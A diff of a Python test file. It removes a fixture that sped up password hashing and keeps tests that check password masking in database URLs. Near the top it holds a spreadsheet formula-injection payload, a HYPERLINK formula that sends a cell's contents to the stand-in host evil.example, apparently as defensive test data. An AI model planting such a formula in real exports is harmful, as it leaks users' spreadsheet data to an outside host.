@@ -16,11 +16,6 @@ from tests.db.helpers import make_dataset
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")'
 
 
-@pytest.fixture(autouse=True)
-def fast_password_hashing(monkeypatch):
-    monkeypatch.setattr("db.users.SCRYPT_N", 2**10)
-
-
 @pytest.mark.parametrize("url, shown", [
     # libpq reads a password from the query too; SQLAlchemy's hide_password masks only the one before the '@'
     ("postgresql+psycopg://ganaug@127.0.0.1:1/ganaug?password=s3cret", "?password=***"),
